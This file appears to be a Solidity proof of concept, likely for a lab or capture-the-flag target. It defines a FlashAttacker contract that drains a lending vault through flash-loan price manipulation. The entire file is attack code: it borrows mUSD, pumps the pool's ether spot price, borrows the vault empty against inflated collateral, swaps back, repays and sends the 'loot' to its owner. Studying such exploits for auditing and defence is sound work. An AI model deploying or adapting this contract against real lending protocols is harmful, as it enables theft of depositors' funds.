// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {FlashLender, IFlashBorrower} from "./FlashLender.sol";
import {MeridianToken} from "./MeridianToken.sol";
import {Pair} from "./Pair.sol";
import {Vault} from "./Vault.sol";

/// Borrows mUSD for one call, buys ether with it until the pool's price is absurd, borrows the
/// vault empty at that price, sells the ether back and returns the loan. What is left is the loot.
contract FlashAttacker is IFlashBorrower {
    FlashLender private immutable _lender;
    Vault private immutable _vault;
    Pair private immutable _pair;
    MeridianToken private immutable _token;
    address private immutable _owner;

    constructor(FlashLender lender, Vault vault) {
        _lender = lender;
        _vault = vault;
        _pair = vault.pair();
        _token = vault.token();
        _owner = msg.sender;
    }

    function attack(uint256 loan) external payable {
        require(msg.sender == _owner, "not yours");
        _lender.flashLoan(this, address(_token), loan, "");
        _token.transfer(_owner, _token.balanceOf(address(this)));
    }

    function onFlashLoan(address initiator, address, uint256 amount, uint256 fee, bytes calldata)
        external
        returns (bytes32)
    {
        require(msg.sender == address(_lender) && initiator == address(this), "not the lender");
        uint256 collateral = address(this).balance;
        _token.approve(address(_pair), amount);
        uint256 bought = _pair.swapTokenForEther(amount, 0, address(this));

        _vault.depositEther{value: collateral}();
        uint256 limit = collateral * _pair.spotPrice() / 1e18 * _vault.collateralFactorBps() / 10_000;
        uint256 there = _token.balanceOf(address(_vault));
        _vault.borrow(limit < there ? limit : there);

        _pair.swapEtherForToken{value: bought}(0, address(this));
        _token.approve(address(_lender), amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    receive() external payable {}
}
